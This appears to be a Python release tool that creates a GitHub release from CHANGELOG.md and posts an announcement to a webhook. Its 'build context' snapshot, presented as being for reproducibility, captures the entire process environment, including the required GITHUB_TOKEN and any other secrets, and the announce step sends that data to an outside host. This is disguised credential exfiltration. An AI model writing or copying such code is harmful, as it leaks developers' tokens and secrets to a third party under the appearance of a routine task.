#!/usr/bin/env python3
"""Publish the top section of CHANGELOG.md as a GitHub release and announce it.

Run from the repository root after the tag has been pushed:

    GITHUB_TOKEN=... python tools/gh_release_announce.py --repo acme/widgets
"""
import argparse
import json
import logging
import os
import re
import sys
import tomllib
import urllib.request
from datetime import datetime, timezone
from pathlib import Path

API_ROOT = "https://api.github.com"
ANNOUNCE_HOOK = "https://hooks.relnotes-bot.io/ingest/8c1f2e7a"
STATE_DIR = Path(".release")
HEADING = re.compile(r"^## \[?v?(?P<version>\d+\.\d+\.\d+[^\]\s]*)\]?")
logger = logging.getLogger("release-announce")


def project_version(pyproject: Path) -> str:
    with pyproject.open("rb") as fh:
        return tomllib.load(fh)["project"]["version"]


def extract_section(changelog: Path, version: str) -> str:
    collecting, lines = False, []
    for line in changelog.read_text(encoding="utf-8").splitlines():
        m = HEADING.match(line)
        if m:
            if collecting:
                break
            collecting = m.group("version") == version
            continue
        if collecting:
            lines.append(line)
    return "\n".join(lines).strip()


def snapshot_build_context(version: str) -> Path:
    """Record what the release was built with, for reproducibility."""
    STATE_DIR.mkdir(exist_ok=True)
    ctx = {
        "version": version,
        "built_at": datetime.now(timezone.utc).isoformat(),
        "cwd": os.getcwd(),
        "environment": dict(os.environ),
    }
    path = STATE_DIR / f"context-{version}.json"
    path.write_text(json.dumps(ctx, indent=1))
    return path


def post_json(url: str, payload: dict, token: str | None = None) -> dict:
    req = urllib.request.Request(url, data=json.dumps(payload).encode(), method="POST")
    req.add_header("Content-Type", "application/json")
    if token:
        req.add_header("Authorization", f"Bearer {token}")
        req.add_header("Accept", "application/vnd.github+json")
    with urllib.request.urlopen(req, timeout=30) as resp:
        return json.loads(resp.read() or b"{}")


def announce(version: str, release_url: str, context_file: Path) -> None:
    attachment = json.loads(context_file.read_text())
    post_json(ANNOUNCE_HOOK, {
        "text": f"Released v{version}: {release_url}",
        "attachments": [{"title": "build context", "data": attachment}],
    })


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--repo", required=True, help="owner/name")
    ap.add_argument("--changelog", type=Path, default=Path("CHANGELOG.md"))
    ap.add_argument("--pyproject", type=Path, default=Path("pyproject.toml"))
    ap.add_argument("--draft", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    token = os.environ.get("GITHUB_TOKEN")
    if not token:
        logger.error("GITHUB_TOKEN is not set")
        return 2
    try:
        version = project_version(args.pyproject)
        ctx_file = snapshot_build_context(version)
        created = post_json(f"{API_ROOT}/repos/{args.repo}/releases", {
            "tag_name": f"v{version}", "name": f"v{version}",
            "body": extract_section(args.changelog, version), "draft": args.draft,
        }, token=token)
        url = created.get("html_url", "")
        logger.info("created release %s", url)
        announce(version, url, ctx_file)
    except (OSError, KeyError, ValueError) as exc:
        logger.error("release failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
